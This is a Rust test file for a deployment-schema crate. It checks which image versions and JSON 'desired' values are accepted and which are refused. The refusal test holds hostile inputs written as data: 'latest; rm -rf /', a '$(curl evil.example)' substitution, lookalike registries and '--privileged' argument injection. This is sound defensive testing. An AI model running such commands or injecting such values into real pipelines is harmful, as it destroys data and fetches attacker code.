//! Desired values, good ones and the ones that pipelines and attackers really write.

#![expect(clippy::unwrap_used, reason = "a test may stop where it is wrong")]

use std::fmt::Write;

use crd_schema::desired::MAX_BYTES;
use crd_schema::spec::load;
use crd_schema::{Application, Desired, DesiredError};

const REPOSITORY: &str = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/blog";
const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn blog() -> Application {
    load(
        include_str!("../../manifests/examples/blog.yaml"),
        "blog.yaml",
    )
    .unwrap()
}

fn with_image(version: &str, image: &str) -> String {
    serde_json::json!({"version": version, "images": {"web": image}}).to_string()
}

fn web_image(value: &str) -> Result<String, DesiredError> {
    Ok(Desired::parse(value)?.images_for(&blog())?["web"].clone())
}

#[test]
fn the_plain_form_is_the_tag() {
    for value in [
        "1.4.0",
        "1.4.0\n",
        "1.4.0\r\n",
        r#"{"version":"1.4.0"}"#,
        "\n {\"version\": \"1.4.0\"} \n",
    ] {
        assert_eq!(
            web_image(value).unwrap(),
            format!("{REPOSITORY}:1.4.0"),
            "{value:?}"
        );
    }
}

#[test]
fn the_json_form_gives_images_and_an_id() {
    let value = format!(
        r#"{{"version":"1.4.0","images":{{"web":"{REPOSITORY}@{DIGEST}"}},"id":"build-991"}}"#
    );
    let desired = Desired::parse(&value).unwrap();
    assert_eq!(desired.id.as_deref(), Some("build-991"));
    assert_eq!(
        desired.images_for(&blog()).unwrap()["web"],
        format!("{REPOSITORY}@{DIGEST}")
    );
}

#[test]
fn a_given_image_may_have_a_tag_a_digest_or_both() {
    for image in [
        format!("{REPOSITORY}:nightly"),
        format!("{REPOSITORY}@{DIGEST}"),
        format!("{REPOSITORY}:1@{DIGEST}"),
    ] {
        assert_eq!(web_image(&with_image("1.4.0", &image)).unwrap(), image);
    }
}

#[test]
fn plus_is_a_version_only_where_digests_decide() {
    let by_digest = with_image("1.4.0+build.7", &format!("{REPOSITORY}@{DIGEST}"));
    assert_eq!(
        web_image(&by_digest).unwrap(),
        format!("{REPOSITORY}@{DIGEST}")
    );

    let mut two_containers = blog();
    two_containers
        .template
        .images
        .insert("proxy".into(), "proxy:{version}".into());
    let desired = Desired::parse(by_digest).unwrap();
    let error = DesiredError::PlusNeedsDigests {
        version: "1.4.0+build.7".into(),
    };
    assert_eq!(desired.images_for(&two_containers), Err(error));
}

#[test]
fn what_is_refused_and_why() {
    let cases = [
        ("nothing", String::new()),
        ("a newline", "\n".into()),
        ("spaces", "  ".into()),
        ("two newlines", "1.4.0\n\n".into()),
        ("a space before", " 1.4.0".into()),
        ("a shell command", "latest; rm -rf /".into()),
        ("a substitution", "$(curl evil.example)".into()),
        ("a URL", "https://evil.example/x".into()),
        ("another image", "evil/blog:1.4.0".into()),
        ("a digest", format!("blog@{DIGEST}")),
        ("quotes", "\"1.4.0\"".into()),
        ("YAML", "version: 1.4.0".into()),
        ("control characters", "1.4.0\u{1b}[31m\0".into()),
        ("letters from elsewhere", "1.4.0-é".into()),
        ("a point first", ".5".into()),
        ("a hyphen first", "--help".into()),
        ("too long a version", "1".repeat(129)),
        ("too long a value", "1".repeat(MAX_BYTES + 1)),
        ("plus in a tag", "1.4.0+build.7".into()),
        (
            "plus beside a tag",
            with_image("1+2", &format!("{REPOSITORY}:1")),
        ),
        ("JSON without a version", "{}".into()),
        ("an empty version", r#"{"version":""}"#.into()),
        ("a number as version", r#"{"version":1.4}"#.into()),
        (
            "an unknown field",
            r#"{"version":"1.4.0","image":"x"}"#.into(),
        ),
        (
            "a field twice",
            r#"{"version":"1.4.0","version":"1.5.0"}"#.into(),
        ),
        (
            "a container twice",
            r#"{"version":"1","images":{"web":"a:1","web":"b:1"}}"#.into(),
        ),
        ("broken JSON", r#"{"version":"1.4.0""#.into()),
        (
            "two JSON values",
            r#"{"version":"1"} {"version":"2"}"#.into(),
        ),
        ("an empty id", r#"{"version":"1","id":""}"#.into()),
        (
            "an id with spaces",
            r#"{"version":"1","id":"build 991"}"#.into(),
        ),
        (
            "an unknown container",
            r#"{"version":"1","images":{"wbe":"a:1"}}"#.into(),
        ),
        ("no image", with_image("1", "--privileged")),
        ("an image without a tag", with_image("1", REPOSITORY)),
        (
            "a short digest",
            with_image("1", &format!("{REPOSITORY}@sha256:abc")),
        ),
        (
            "another registry",
            with_image("1", &format!("evil.example/{REPOSITORY}:1")),
        ),
        (
            "a repository below",
            with_image("1", &format!("{REPOSITORY}/evil:1")),
        ),
        (
            "a repository beside",
            with_image("1", &format!("{REPOSITORY}-evil:1")),
        ),
    ];
    let mut gallery = String::new();
    for (name, value) in cases {
        let error = web_image(&value).expect_err(name);
        writeln!(gallery, "{name}: {error}").unwrap();
    }
    let error = Desired::parse(b"1.4\xff").unwrap_err();
    writeln!(gallery, "no text: {error}").unwrap();
    insta::assert_snapshot!(gallery);
}
